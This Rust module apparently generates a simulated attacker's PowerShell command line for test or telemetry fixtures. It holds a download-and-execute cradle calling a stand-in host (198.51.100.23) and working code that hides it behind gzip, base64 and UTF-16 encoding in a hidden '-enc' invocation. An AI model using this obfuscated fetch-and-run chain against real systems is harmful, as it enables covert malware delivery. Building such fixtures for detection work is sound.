//! The two layers around the attacker's command: gzip in base64, and that in UTF-16 in base64.
//! It compresses with fixed Huffman codes and literals only, so that the bytes never change.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// What PowerShell runs in the end.
pub(crate) const FINAL: &str =
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')";

/// The script that `-enc` carries.
pub(crate) fn first_layer() -> String {
    let packed = STANDARD.encode(gzip(FINAL.as_bytes()));
    format!(
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}'));\
         IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,\
         [IO.Compression.CompressionMode]::Decompress))).ReadToEnd();"
    )
}

/// The command line of PowerShell 11872.
pub(crate) fn command_line() -> String {
    let wide: Vec<u8> = first_layer().encode_utf16().flat_map(u16::to_le_bytes).collect();
    format!("powershell.exe -nop -w hidden -enc {}", STANDARD.encode(wide))
}

/// A gzip stream as .NET writes its header: no name, no time.
fn gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 4, 0];
    let mut bits = Bits::default();
    bits.push(0b011, 3); // last block, fixed codes
    for &byte in data {
        let byte = u32::from(byte);
        if byte < 144 {
            bits.push_reversed(0x30 + byte, 8);
        } else {
            bits.push_reversed(0x190 + byte - 144, 9);
        }
    }
    bits.push(0, 7); // end of block
    out.extend(bits.finish());
    out.extend(crc32fast::hash(data).to_le_bytes());
    out.extend(u32::try_from(data.len()).unwrap_or(0).to_le_bytes());
    out
}

/// Bits, the first one lowest in its byte.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    pending: u32,
    count: u32,
}

impl Bits {
    fn push(&mut self, value: u32, width: u32) {
        self.pending |= value << self.count;
        self.count += width;
        while self.count >= 8 {
            self.bytes.extend(self.pending.to_le_bytes().first());
            self.pending >>= 8;
            self.count -= 8;
        }
    }

    /// Huffman codes stand with their highest bit first.
    fn push_reversed(&mut self, value: u32, width: u32) {
        self.push(value.reverse_bits() >> (32 - width), width);
    }

    fn finish(mut self) -> Vec<u8> {
        if self.count > 0 {
            self.push(0, 8 - self.count);
        }
        self.bytes
    }
}
